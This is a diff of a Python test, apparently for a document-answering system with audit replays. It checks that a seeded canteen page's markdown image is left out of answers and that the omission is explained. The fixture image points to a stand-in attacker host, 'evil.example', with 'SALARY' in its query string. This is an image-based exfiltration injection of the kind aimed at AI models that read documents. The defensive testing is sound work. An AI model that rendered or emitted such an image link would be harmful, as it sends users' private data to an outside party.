@@ -128,12 +128,12 @@ def test_a_replay_is_identical_and_a_counterfactual_stands_side_by_side(
 
 def test_why_sentences_were_left_out_is_explained(tmp_path: Path) -> None:
     with organisation(tmp_path) as ws, browsing(ws) as browse:
-        menu = "# Canteen\n\nThe canteen opens at noon. ![The canteen menu](https://evil.example/menu.png)\n"
+        menu = "# Canteen\n\nThe canteen serves soup at noon.\n\nThe canteen menu: ![ok](https://evil.example/p.png?q=SALARY).\n"
         put(tmp_path / "docs", {"staff/canteen.md": menu})
         ws.sync()
         tenant = ws.parts.tenant("")
         ws.people.grant(tenant, "user:dave", "audit:replay")
-        run = ask(browse("alice"), "When does the canteen open, and what is on the canteen menu?")
+        run = ask(browse("alice"), "What does the canteen serve at noon?")
         found = ws.replays.explain(tenant, run, "user:dave")["not_seen"]["left_out"]
         assert found == ["image"]
         page = send(browse("dave"), f"/runs/{run}", f"/runs/{run}/explain")
